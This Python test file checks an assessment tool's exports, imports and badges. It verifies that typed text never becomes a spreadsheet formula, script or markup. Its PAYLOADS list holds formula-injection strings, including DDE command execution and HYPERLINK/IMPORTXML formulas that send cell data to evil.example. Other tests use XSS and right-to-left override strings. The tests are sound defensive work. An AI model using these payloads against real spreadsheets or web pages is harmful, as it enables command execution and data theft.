"""What is given away: whole, readable, without a person, and never a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assessments import Answer, Evidence, load_questionnaire, restoring, sample_answers
from assessments.badges import badge
from assessments.exporting import (
    COLUMNS,
    STEP_COLUMNS,
    Record,
    RecordedStep,
    RecordedTarget,
    record,
    record_as_csv,
    record_as_json,
    record_as_xlsx,
    record_as_yaml,
)
from assessments.loading import SHIPPED
from assessments.next_steps import steps_as_calendar, steps_as_csv, steps_as_markdown
from assessments.recommending import recommend
from assessments.restoring import load_record, read_record
from assessments.snapshots import Round, take_snapshot
from datafiles import DataFileError, Limits, parse_strict, validate
from datafiles.spreadsheets import as_csv

law = settings(max_examples=60, deadline=None, derandomize=True, database=None)
DAY = date(2026, 11, 16)
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=IMPORTXML("https://evil.example","//a")',
    'a";=1+1;"',
    "%0A=1+1",
    "|=1",
]


def whole(build, text="Plain", **more) -> Record:
    """Build a record with the text in every field where people type something."""
    many = {
        "kind": "multi",
        "text": text,
        "options": [
            {"id": "x", "text": text, "value": 1, "label": text},
            {"id": "y", "text": f"{text} too", "value": 1},
        ],
    }
    asked = build.questionnaire(
        [
            build.practice("a", title=text, question={"kind": "single", "text": text, "options": [
                {"id": "low", "text": text, "value": 0},
                {"id": "high", "text": f"{text} more", "value": 1}]}),
            build.practice("b", title=text, question=many),
            build.practice("c", title=text, question={"kind": "bool", "text": text}),
            build.practice("d", title=text, question={"kind": "percent", "text": text}),
            build.practice("e", title=text),
            build.practice("f", title=text),
        ],
        title=text,
        licence=text,
        attribution=text,
        version=text,
        dimensions=[{"id": "a", "title": text}],
    )  # fmt: skip
    evidence = (Evidence(text=text, link="https://example.org/=1", by="Anna", date=DAY, expires=DAY),)
    answers = {
        "a": Answer(state="value", option="low", reason=text, note=text, evidence=evidence),
        "b": Answer(state="value", value=("x",), note=text),
        "c": Answer(state="value", value=True),
        "d": Answer(state="value", value=12.5),
        "e": Answer(state="not-applicable", reason=text),
    }
    tallies = {"a": {"low": 3, "high": 2}, "b": {"+x": 5}, "e": {"~not-applicable": 5}}
    found = Round(text, DAY, answers, 5, tallies)
    return record(
        asked,
        take_snapshot(asked, found),
        {"a": RecordedTarget(worth=1, option="high", reason=text, owner=text, due=DAY)},
        [
            RecordedStep(practice="a", measure=text, step=text, owner=text, due=DAY, outcome=text),
            RecordedStep(practice="b", measure=text),
        ],
        **more,
    )


# ---------------------------------------------------------------- whole


def test_json_and_yaml_read_back_to_the_same_record_with_the_same_fingerprint(build):
    given_away = whole(build)
    for text in (record_as_json(given_away), record_as_yaml(given_away)):
        back = read_record(text)
        assert back == given_away
        assert (back.fingerprint, back.snapshot.fingerprint) == (
            given_away.fingerprint,
            given_away.snapshot.fingerprint,
        )


def test_the_sample_team_can_be_given_away_and_taken_back(tmp_path):
    asked, answers = load_questionnaire(SHIPPED / "continuous-delivery.yaml"), sample_answers()
    given_away = record(asked, take_snapshot(asked, Round(answers.team, answers.date, answers.answers)))
    file = tmp_path / "harbor.json"
    file.write_text(record_as_json(given_away), encoding="utf-8")
    assert load_record(file) == given_away
    assert load_record(file).snapshot.as_answers() == answers


texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Zl", "Zp"]), min_size=1, max_size=30)


@law
@given(text=texts.filter(str.strip) | st.sampled_from(["a\nb", "a\tb", "no", "5.10", "\ufeff", "😀", "null"]))
def test_every_text_survives_both_formats(build, text):
    given_away = whole(build, text)
    assert read_record(record_as_json(given_away)) == given_away
    assert read_record(record_as_yaml(given_away)) == given_away
    with_lines = parse_strict(restoring.as_plain(record_as_json(given_away)), limits=restoring.RECORD)
    assert validate(with_lines, Record, restoring.check_record) == given_away


def test_json_that_another_program_wrote_anew_is_the_same(build):
    given_away = whole(build, "über 😀 \u2019")
    values = json.loads(record_as_json(given_away))
    for text in (json.dumps(values), json.dumps(values, indent="\t"), f"\n {json.dumps(values, indent=2)}"):
        assert read_record(text) == given_away
        broken = text.replace('"respondents": 5', '"respondents": 4')
        assert ("snapshot.tallies.a", line_of(text, '"tallies"') + ("\n" in text.strip())) in faults(broken)


def test_nobody_is_named_in_any_export(build):
    given_away = whole(build)
    files = [
        record_as_json(given_away),
        record_as_yaml(given_away),
        record_as_csv(given_away).decode(),
        steps_as_markdown(given_away),
    ]
    files += [
        *parts(record_as_xlsx(given_away)).values(),
        steps_as_calendar(given_away, DAY),
        steps_as_csv(given_away).decode(),
    ]
    assert not [file for file in files if "Anna" in file]


def test_who_gave_evidence_is_not_taken_in_either(build):
    changed = re.sub(r'("link": "[^"]*")', r'\1, "by": "Anna"', record_as_json(whole(build)))
    assert "Anna" in changed
    assert read_record(changed) == whole(build)


def test_licence_and_attribution_go_along_in_every_export(build):
    given_away = whole(build)
    asked = given_away.asked.model_copy(update={"licence": "CC-BY-4.0", "attribution": "By the authors."})
    taken = given_away.snapshot.model_copy(update={"licence": "CC-BY-4.0", "attribution": "By the authors."})
    marked = given_away.model_copy(update={"asked": asked, "snapshot": taken})
    files = [
        record_as_json(marked),
        record_as_yaml(marked),
        record_as_csv(marked).decode(),
        steps_as_markdown(marked),
    ]
    files += ["".join(parts(record_as_xlsx(marked)).values()), steps_as_csv(marked).decode()]
    files.append(steps_as_calendar(marked, DAY).replace("\r\n ", ""))
    assert [("CC-BY-4.0" in file, "By the authors." in file) for file in files] == [(True, True)] * 7


# ---------------------------------------------------------------- taken back with faults


def faults(text):
    with pytest.raises(DataFileError) as caught:
        read_record(text, "harbor.json")
    return [(problem.field, problem.line) for problem in caught.value.problems]


def line_of(text, part):
    return text[: text.index(part)].count("\n") + 1


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ('"respondents": 5', '"respondents": 0', "snapshot.respondents"),
        ('"respondents": 5', '"respondents": 4', "snapshot.tallies.a"),
        ('"low": 3', '"lower": 3', "snapshot.tallies.a.lower"),
        ('"option": "low"', '"option": "lowest"', "snapshot.answers.a.option"),
        ('"date": "2026-11-16",\n"respondents"', '"date": "2026-11-31",\n"respondents"', "snapshot.date"),
        ('"questionnaire": "small"', '"questionnaire": "large"', "snapshot.questionnaire"),
        ('"worth": 1.0', '"worth": 2.0', "targets.a.worth"),
        ('"practice": "b"', '"practice": "gone"', "next_steps[1].practice"),
    ],
)
def test_every_fault_is_named_with_its_place(build, old, new, field):
    text = record_as_json(whole(build))
    assert text.count(old) == 1
    changed = text.replace(old, new)
    assert field in [found for found, _ in faults(changed)]


def test_all_faults_are_named_at_once_each_with_its_line(build):
    text = record_as_json(whole(build))
    text = text.replace('"option": "low"', '"option": "gone"').replace('"low": 3', '"never": 3')
    text = text.replace('"practice": "a"', '"practice": "z"')
    assert faults(text) == [
        ("snapshot.answers.a.option", line_of(text, '"option": "gone"')),
        ("snapshot.tallies.a.never", line_of(text, '"never": 3')),
        ("next_steps[0].practice", line_of(text, '"practice": "z"')),
    ]


def test_answers_tallies_and_targets_of_unknown_practices_are_refused(build):
    given_away = whole(build)
    taken = given_away.snapshot.model_copy(
        update={
            "answers": {"gone": given_away.snapshot.answers["a"]},
            "tallies": {"gone": {"low": 5}, "a": {"low": 5}},
            "respondents": None,
        }
    )
    broken = given_away.model_copy(update={"snapshot": taken, "targets": {"gone": RecordedTarget(worth=1)}})
    assert [field for field, _ in faults(record_as_json(broken))] == [
        "snapshot.answers.gone",
        "snapshot.tallies.gone",
        "snapshot.tallies.a",
        "targets.gone",
    ]


def test_a_changed_questionnaire_is_no_longer_the_one_that_was_asked(build):
    text = record_as_json(whole(build)).replace('"text": "What is seen?"', '"text": "What is not seen?"', 1)
    assert [field for field, _ in faults(text)] == ["snapshot.hash"]


def test_a_key_that_stands_there_twice_is_refused_at_its_line(build):
    text = record_as_json(whole(build)).replace('"team": "Plain"', '"team": "Plain",\n  "team": "Other"')
    assert ("snapshot.team", line_of(text, '"team": "Other"')) in faults(text)


@pytest.mark.parametrize("worth", ["NaN", "Infinity", "-1", '"1"'])
def test_a_number_that_is_none_is_refused(build, worth):
    text = record_as_json(whole(build))
    assert ("targets.a.worth", line_of(text, '"worth": 1.0')) in faults(
        text.replace('"worth": 1.0', f'"worth": {worth}')
    )


def test_what_is_too_large_or_too_deep_is_refused(build, monkeypatch):
    assert faults("{" + '"a":{' * 5000)
    monkeypatch.setattr(restoring, "RECORD", Limits(1000, 16, 100))
    assert [field for field, _ in faults(record_as_json(whole(build)))] == ["file"]


def test_the_questionnaire_inside_is_checked_like_any_other(build):
    text = record_as_json(whole(build)).replace('"dimension": "a"', '"dimension": "gone"', 1)
    found = faults(text)
    assert [one for one in found if one[0].startswith("asked.practices[0].dimension")]
    assert line_of(text, '"dimension": "gone"') in [line for _, line in found]


@pytest.mark.parametrize("text", ["", "{", "[]", '{"format": 2}', '{"asked": 1}', "{}", "null"])
def test_what_is_no_record_is_refused_with_its_problems(text):
    assert faults(text)


# ---------------------------------------------------------------- tables


def parts(book: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def table(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.decode(), newline="")))


def cells_of(book: bytes) -> list[str]:
    shared = ET.fromstring(parts(book)["xl/sharedStrings.xml"])  # noqa: S314 - written by this test
    return ["".join(found.itertext()) for found in shared]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_any_table(build, payload):
    given_away = whole(build, payload)
    for written in (record_as_csv(given_away), steps_as_csv(given_away), as_csv([payload], [[payload]])):
        rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if re.match(r"\s*[=+\-@|%\uff1d\uff0b\uff0d\uff20]", cell)]
        assert [cell for cell in cells if payload.strip() in cell]
    found = parts(record_as_xlsx(given_away))
    sheets = [text for name, text in found.items() if name.startswith("xl/worksheets/")]
    assert len([name for name in found if "worksheets/sheet" in name]) == 4
    assert not [text for text in sheets if "<f>" in text or "<f " in text or "hyperlink" in text.lower()]


def test_a_text_that_is_no_formula_stays_as_it_is_and_a_number_is_a_number(build):
    given_away = whole(build)
    rows = table(record_as_csv(given_away))
    assert list(rows[0]) == list(COLUMNS)
    first = rows[0]
    assert (first["practice"], first["answer"], first["score"]) == ("a", "Plain", "0.0")
    assert (first["said"], first["median"], first["deviation"]) == ("Plain: 3; Plain more: 2", "Plain", "0.4")
    assert first["agree_up_to"].startswith("0.333")
    assert (first["target"], first["target_owner"], first["target_due"]) == ("1.0", "Plain", "2026-11-16")
    assert first["evidence"] == "Plain https://example.org/=1 until 2026-11-16"
    assert [row["answer"] for row in rows] == ["Plain", "Plain", "Yes", "12.5", "", ""]
    assert [row["state"] for row in rows[3:]] == ["Answered", "Not applicable", "Unanswered"]
    assert b'"Small","1"' not in record_as_csv(given_away)
    assert b",12.5," in record_as_csv(given_away)


def test_a_workbook_has_answers_distribution_next_steps_and_its_origin(build):
    book = record_as_xlsx(whole(build))
    names = re.findall(r'<sheet name="([^"]+)"', parts(book)["xl/workbook.xml"])
    assert names == ["Answers", "Distribution", "Next steps", "About"]
    cells = cells_of(book)
    assert {"Plain", "practice", "Fingerprint of the questionnaire", "Not applicable"} <= set(cells)
    assert set(STEP_COLUMNS) <= set(cells)


def test_a_text_of_a_workbook_keeps_its_equals_sign(build):
    assert "=1+1" in cells_of(record_as_xlsx(whole(build, "=1+1")))


def test_words_of_options_that_are_gone_are_written_as_they_are(build):
    given_away = whole(build)
    old = {"a": Answer(state="value", option="gone"), "c": Answer(state="value", value=False),
           "b": Answer(state="value", value=())}  # fmt: skip
    taken = given_away.snapshot.model_copy(update={"answers": old, "tallies": {"a": {"low": 1}}})
    rows = table(record_as_csv(given_away.model_copy(update={"snapshot": taken})))
    assert [(row["answer"], row["score"]) for row in rows[:3]] == [
        ("gone", ""),
        ("None", "0.0"),
        ("No", "0.0"),
    ]
    assert (rows[0]["said"], rows[0]["deviation"], rows[0]["median"]) == ("Plain: 1", "", "")


# ---------------------------------------------------------------- next steps


def test_next_steps_are_written_with_their_formula(build):
    given_away = whole(build)
    why = {
        row.practice.id: row for row in recommend(given_away.asked, given_away.snapshot.as_answers()).ready
    }
    text = steps_as_markdown(given_away, why)
    assert text.startswith("# Next steps of Plain\n\nPlain, version Plain, 2026-11-16.\n\n## 1. Plain\n\n")
    assert "- Looked after by: Plain\n- Looked at again on: 2026-11-16\n- Stands: chosen\n" in text
    assert "effort: (1.00 - 0.00) × 1 × 3 / 3 = 1.00\n" in text  # noqa: RUF001 - the sign of multiplication
    assert "## 2. Plain\n\n- Measure that should move: Plain\n- Looked after by: not agreed yet\n" in text


def test_without_a_step_the_text_says_so(build):
    assert "No step is chosen yet." in steps_as_markdown(whole(build).model_copy(update={"next_steps": ()}))


def test_the_first_step_of_a_practice_is_shown_where_the_team_wrote_none(build):
    asked = build.questionnaire([build.practice("a", first_step="Begin small.")])
    taken = take_snapshot(asked, Round("Harbor", DAY, {}))
    steps = [RecordedStep(practice="a", measure="wait"), RecordedStep(practice="gone", measure="wait")]
    text = steps_as_markdown(record(asked, taken, None, steps))
    assert "- First step: Begin small.\n" in text
    assert "## 2. gone" in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://e.example/p.png)", "\\!\\[x\\](https:\u200b//e.example/p.png)"),
        ("<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"),
        ("[a](javascript:alert(1))", "\\[a\\](javascript:alert(1))"),
        ("# big\n# bigger", "\\# big \\# bigger"),
        ("&lt; `code` *b* _i_", "\\&lt; \\`code\\` \\*b\\* \\_i\\_"),
    ],
)
def test_markdown_shows_what_people_typed_and_runs_none_of_it(build, text, shown):
    written = steps_as_markdown(whole(build, text))
    assert f"- First step: {shown}\n" in written
    assert text not in written


def test_each_step_with_a_day_is_an_event_that_a_new_file_replaces(build):
    text = steps_as_calendar(whole(build), DAY)
    assert text.count("BEGIN:VEVENT") == 1
    assert "DTSTART;VALUE=DATE:20261116\r\nSUMMARY:Greenlane: look at Plain\r\n" in text
    assert re.findall("UID:.*", text) == re.findall(
        "UID:.*", steps_as_calendar(whole(build), date(2026, 12, 1))
    )
    assert "\r\nBEGIN:VALARM" not in steps_as_calendar(whole(build, "a\nBEGIN:VALARM"), DAY)


def test_next_steps_as_a_table_have_a_row_each(build):
    rows = table(steps_as_csv(whole(build)))
    assert [(row["practice"], row["measure"], row["due"]) for row in rows] == [
        ("a", "Plain", "2026-11-16"),
        ("b", "Plain", ""),
    ]


# ---------------------------------------------------------------- badge


def test_a_badge_says_what_was_asked_when_and_how_much_was_answered(build):
    found = whole(build)
    drawn = badge(found.asked, found.snapshot, 0.8)
    assert drawn.refused is None
    picture = ET.fromstring(drawn.svg)  # noqa: S314 - drawn by this test
    assert picture.attrib["aria-label"] == "Plain Plain: 4 of 5 answered · 2026-11-16"
    assert picture.attrib["role"] == "img"
    assert int(picture.attrib["width"]) > 100


def test_there_is_no_badge_for_an_assessment_that_was_hardly_answered(build):
    found = whole(build)
    drawn = badge(found.asked, found.snapshot, 0.81)
    assert (drawn.svg, drawn.refused) == (None, "4 of 5 practices are answered; a badge needs 81 %")
    nothing = build.questionnaire([build.practice("a")])
    aside = take_snapshot(nothing, Round("Harbor", DAY, {"a": build.answer("not-applicable")}))
    assert badge(nothing, aside).refused == "0 of 0 practices are answered; a badge needs 80 %"


@pytest.mark.parametrize(
    "text", ['"><script>alert(1)</script>', "a & b <c>", "\u202eevil", "長" * 70, "x" * 70]
)
def test_a_badge_is_a_picture_whatever_the_title_says(build, text):
    found = whole(build, text)
    drawn = badge(found.asked, found.snapshot, 0.5).svg
    picture = ET.fromstring(drawn)  # noqa: S314 - drawn by this test
    assert {part.tag.rpartition("}")[2] for part in picture.iter()} == {"svg", "title", "rect", "g", "text"}
    assert "\u202e" not in drawn


def test_a_practice_and_an_answer_have_one_line_each(build):
    found = whole(build)
    lines = record_as_json(found).splitlines()
    for practice in found.asked.practices:
        assert sum(line.startswith(f'{{"id": "{practice.id}", "dimension": ') for line in lines) == 1
    for name in found.snapshot.answers:
        assert sum(line.startswith(f'"{name}": {{"state": ') for line in lines) == 1


def test_a_broken_file_too_large_for_the_slow_way_is_refused_all_the_same(build, monkeypatch):
    text = record_as_json(whole(build))
    monkeypatch.setattr(restoring, "LINED", 10)
    assert read_record(text) == whole(build)
    for wrong, line, field in (
        (text.replace('"worth": 1.0', '"worth": 2.0'), 1, "targets.a.worth"),
        (text.rstrip().removesuffix("}"), text.count("\n"), "file"),
        (text.replace('"format": 1', '"format": 1, "format": 1', 1), 1, "file"),
        ("{" + "[" * 100_000, 1, "file"),
    ):
        with pytest.raises(DataFileError) as caught:
            read_record(wrong, "mine.json")
        found = caught.value.problems[0]
        assert (found.path, found.line, found.field) == ("mine.json", line, field), wrong[:40]
        assert found.mend


def test_a_file_beyond_twenty_megabytes_comes_back_with_the_identical_hash(build):
    practices = [
        build.practice(f"p{number}", why="Because. " * 500, first_step="Begin. " * 500)
        for number in range(2_000)
    ]
    asked = build.questionnaire(practices)
    proof = Evidence(text="Seen " * 400, link="https://example.org/x")
    said = build.answer("o2").model_copy(update={"note": "Noted " * 300, "evidence": (proof,)})
    given = {practice.id: said for practice in asked.practices}
    tallies = {practice.id: {"o1": 3, "o2": 4} for practice in asked.practices}
    found = record(asked, take_snapshot(asked, Round("Harbor", DAY, given, 7, tallies)))
    text = record_as_json(found)
    assert 20_000_000 < len(text) < restoring.RECORD.size
    assert read_record(text).fingerprint == found.fingerprint
